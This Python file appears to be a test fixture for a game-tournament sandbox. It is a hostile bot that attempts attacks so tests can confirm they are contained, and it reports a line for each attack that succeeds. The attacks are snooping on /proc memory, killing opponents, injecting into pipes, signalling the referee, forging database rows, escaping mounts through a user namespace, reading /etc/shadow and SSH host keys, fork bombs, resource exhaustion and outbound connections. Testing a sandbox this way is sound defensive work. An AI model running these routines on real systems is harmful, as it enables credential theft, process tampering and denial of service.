"""A protocol bot that attacks its referee and opponents: ``hostile.py ATTACK TOKEN [ARG]``.

TOKEN marks its command line (and its daemons'), so that a test can look for survivors.
Its victims are only processes whose command line has ``random_bot.py 4242`` (the
honest opponent of the tests) or the referee it is told of, never anything else.
At its first decision it tries ATTACK, then plays the first legal action on every
request (echoing the decision number). On stderr it writes ``BREACH <what>`` for every
way the attack worked, and ``tried <what>`` once it has tried, so that a test can tell
an attack that failed from one that was never made.

  proc-snoop       read other processes' memory, stdin and command lines through /proc
  kill             SIGKILL every victim it can see
  pipe-inject      write an out-of-range answer into other processes' stdout via /proc
  signal-referee   SIGSTOP then SIGKILL the referee, whose real pid is ARG
  database         open the results database ARG (@PATH: PATH) and insert a forged win
  seed-rebuild     rebuild the deal from the tournament file ARG (its first decision must
                   be decision 0 of the game) and compare it with what it is shown
  unmask           unmount what hides the results database ARG (in its own folder), read
                   it, also after taking capabilities back in a user namespace of its
                   own, and read the machine's secrets in /etc
  remember         keep what it saw (in memory, /tmp and /dev/shm) and report earlier games
  daemon           leave a setsid daemon behind (its command line has TOKEN)
  fork-bomb        fork (each child in a new session) until it cannot; say how many
  shm-hog          map 2 GiB of shared anonymous memory and touch every page
  tmp-fill         write to /tmp until it cannot; say how much
  cpu-starve       start one CPU burner per CPU and more, then answer at once
  fork-on-answer   at every decision answer first, then fork a CPU burner at once (the
                   fork is under way as the referee pauses the bot); at the next, count
                   the burner's CPU time and kill it
  network          connect to 127.0.0.1:ARG (a server of the test) and to a public host
"""

import contextlib
import json
import mmap
import os
import signal
import socket
import sys
import time

attack = sys.argv[1]
args = sys.argv[3:]
VICTIM = b"random_bot.py\x004242"
MEMORY_PATHS = ("/tmp/goatarena-hostile-memory", "/dev/shm/goatarena-hostile-memory")
"""Where ``remember`` keeps what it saw: every place a sandboxed bot may write."""
memory: list[str] = []


def send(message):
    sys.stdout.write(json.dumps(message) + "\n")
    sys.stdout.flush()


def say(text):
    print(text, file=sys.stderr, flush=True)


def breach(text):
    say(f"BREACH {text}")


def others():
    """Every victim visible in /proc."""
    found = []
    for name in os.listdir("/proc"):
        try:
            with open(f"/proc/{name}/cmdline", "rb") as file:
                if VICTIM in file.read():
                    found.append(int(name))
        except OSError:
            pass
    return found


def proc_snoop():
    for pid in others():
        for what in ("mem", "fd/0", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as file:
                    if what == "mem":
                        file.seek(0x400000)
                    if file.read(64):
                        breach(f"read /proc/{pid}/{what}")
            except OSError:
                pass
        breach(f"saw the opponent, process {pid}")
    say("tried proc-snoop")


def kill_all():
    for pid in others():
        try:
            os.kill(pid, signal.SIGKILL)
            breach(f"killed {pid}")
        except OSError:
            pass
    say("tried kill")


def pipe_inject():
    forged = b'{"type":"action","index":99999}\n'
    for pid in others():
        try:
            fd = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, forged)
            os.close(fd)
            breach(f"wrote into the stdout of {pid}")
        except OSError:
            pass
    say("tried pipe-inject")


def signal_referee():
    referee = int(args[0])
    for signum in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(referee, signum)
            breach(f"sent signal {signum} to {referee}")
        except OSError:
            pass
    for signum in (signal.SIGSTOP, signal.SIGKILL):
        with contextlib.suppress(OSError):
            os.kill(os.getppid(), signum)
    say("tried signal-referee")


def database():
    import sqlite3

    path = args[0].removeprefix("@")  # "@": no word of its command (which is refused)
    try:
        if not os.path.exists(path):
            raise OSError("absent")
        db = sqlite3.connect(path, timeout=1)
        db.execute(
            "INSERT INTO games (key, game, round, seed, players, result, finished_at)"
            " VALUES ('forged', 'x', 0, 0, '[]', '{}', 0)"
        )
        db.commit()
        breach(f"wrote into {path}")
    except (OSError, sqlite3.Error):
        pass
    try:
        with open(path, "rb") as file:
            if file.read(16):
                breach(f"read {path}")
    except OSError:
        pass
    say("tried database")


def seed_rebuild(start, request):
    """Find the deal this game plays among every deal the tournament file describes."""
    import msgspec

    from goatarena.formats.schedule import round_robin_schedule
    from goatarena.formats.tournament_file import load_config
    from goatarena.games import find_game

    try:
        config = load_config(__import__("pathlib").Path(args[0]))
    except Exception as error:  # noqa: BLE001 - an attacker takes what it can get
        say(f"tried seed-rebuild: no file ({error})")
        return
    seen = msgspec.json.encode(request["observation"])
    info = find_game(start["game"])
    for game in round_robin_schedule(config):
        if game.game != info.name or len(game.seating) != len(start["players"]):
            continue
        state = info.new_state(len(game.seating), game.seed, game.options)
        rebuilt = msgspec.json.encode(state.observation(start["seat"]))
        if rebuilt == seen:
            breach(f"rebuilt the deal of {game.key}")
            break
    say("tried seed-rebuild")


def remember(start, request):
    me = f"{os.getpid()}:{id(memory)}"
    for path in MEMORY_PATHS:
        try:
            with open(path) as file:
                for line in file:
                    if not line.startswith(me + " "):
                        breach(f"found what an earlier process wrote: {line.strip()!r}")
        except OSError:
            pass
    memory.append(start["match"])
    say(f"played {start['match']} in process {me}; remembers {memory[:-1]}")
    for path in MEMORY_PATHS:
        with contextlib.suppress(OSError), open(path, "a") as file:
            file.write(f"{me} {start['match']}\n")


def unmask():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    path = args[0]
    for _ in range(2):
        try:
            with open(path, "rb") as file:
                if file.read(16).startswith(b"SQLite format"):
                    breach(f"read {path}")
        except OSError:
            pass
        if libc.umount2(path.encode(), 2) == 0:  # MNT_DETACH
            breach(f"unmounted what hid {path}")
        if libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0:
            breach("mounted over /usr")
    unmask_nested(libc, path)
    for secret in ("/etc/shadow", "/etc/ssh/ssh_host_rsa_key", "/etc/gshadow"):
        try:
            with open(secret, "rb") as file:
                if file.read(1):
                    breach(f"read {secret}")
        except OSError:
            pass
    say("tried unmask")


def unmask_nested(libc, path):
    """In a child: take every capability back in a user namespace of its own, then
    unmount what hides ``path``, or make the read-only system writable."""
    uid, gid = os.getuid(), os.getgid()
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
        say("made a user namespace of its own")
        with contextlib.suppress(OSError):
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1")):
                with open(f"/proc/self/{name}", "w") as file:
                    file.write(text)
            with open("/proc/self/gid_map", "w") as file:
                file.write(f"0 {gid} 1")
        if libc.umount2(path.encode(), 2) == 0:
            breach(f"unmounted what hid {path} in a user namespace of its own")
        if libc.mount(None, b"/usr", None, 32 | 4096, None) == 0:  # MS_REMOUNT | MS_BIND
            breach("made /usr writable in a user namespace of its own")
    os._exit(0)


def daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setpgid(0, 0)
            code = "import time; time.sleep(600)"
            os.execv(sys.executable, [sys.executable, "-c", code, sys.argv[2]])
        os._exit(0)
    say("tried daemon")


def fork_bomb():
    children = 0
    while children < 2000:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.setsid()
            time.sleep(600)
            os._exit(0)
        children += 1
    say(f"tried fork-bomb: {children} children")


def shm_hog():
    size = 2 << 30
    area = mmap.mmap(-1, size, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
    for offset in range(0, size, 4096):
        area[offset] = 1
    breach("touched 2 GiB of shared memory")


def tmp_fill():
    written = 0
    try:
        with open("/tmp/fill", "wb") as file:
            block = b"x" * (1 << 20)
            while written < (4 << 30):
                file.write(block)
                file.flush()
                written += len(block)
    except OSError:
        pass
    say(f"tried tmp-fill: {written >> 20} MiB")
    if written >= 1 << 30:
        breach(f"wrote {written >> 20} MiB to /tmp")


burners: list[int] = []
retired_cpu = 0.0
burners_started = 0.0


def fork_burner():
    """Start a CPU burner in a session of its own; its pid."""
    pid = os.fork()
    if pid == 0:
        os.setsid()
        while True:
            pass
    return pid


def cpu_starve():
    global burners_started
    burners_started = time.monotonic()
    for _ in range(2 * (os.cpu_count() or 2)):
        burners.append(fork_burner())
    say("tried cpu-starve")


def burner_cpu():
    """The CPU seconds its live burners have had so far."""
    ticks = 0
    for pid in burners:
        try:
            with open(f"/proc/{pid}/stat") as file:
                fields = file.read().rsplit(")", 1)[1].split()
            ticks += int(fields[11]) + int(fields[12])
        except OSError:
            pass
    return ticks / os.sysconf("SC_CLK_TCK")


def retire_burners():
    """Kill the live burners, keeping the CPU time they had."""
    global retired_cpu
    retired_cpu += burner_cpu()
    for pid in burners:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    burners.clear()


def report_burners():
    """The CPU time its burners have had so far, beside the time they have existed."""
    cpu = retired_cpu + burner_cpu()
    say(f"burners: cpu {cpu:.2f} s over {time.monotonic() - burners_started:.2f} s")


def network():
    port = int(args[0])
    for host, where in (("127.0.0.1", port), ("1.1.1.1", 80)):
        try:
            with socket.create_connection((host, where), timeout=1):
                breach(f"connected to {host}:{where}")
        except OSError:
            pass
    say("tried network")


ATTACKS = {
    "proc-snoop": proc_snoop,
    "kill": kill_all,
    "pipe-inject": pipe_inject,
    "signal-referee": signal_referee,
    "database": database,
    "daemon": daemon,
    "fork-bomb": fork_bomb,
    "shm-hog": shm_hog,
    "tmp-fill": tmp_fill,
    "unmask": unmask,
    "cpu-starve": cpu_starve,
    "network": network,
}
GAME_ATTACKS = {"seed-rebuild": seed_rebuild, "remember": remember}

attacked = False
start = None
for line in sys.stdin:
    message = json.loads(line)
    kind = message.get("type")
    if kind == "hello":
        send({"type": "hello", "name": attack})
    elif kind == "start":
        start = message
        attacked_this_game = False
    elif kind == "decide":
        if attack in GAME_ATTACKS and not attacked_this_game:
            GAME_ATTACKS[attack](start, message)
            attacked_this_game = True
        elif attack in ATTACKS and not attacked:
            attacked = True
            ATTACKS[attack]()
        elif attack == "fork-on-answer":
            if burners_started:
                retire_burners()
                report_burners()
            else:
                burners_started = time.monotonic()
                say("tried fork-on-answer")
        elif burners:
            report_burners()
        send({"type": "action", "index": 0, "decision": message["decision"]})
        if attack == "fork-on-answer":
            burners.append(fork_burner())
    elif kind == "quit":
        break
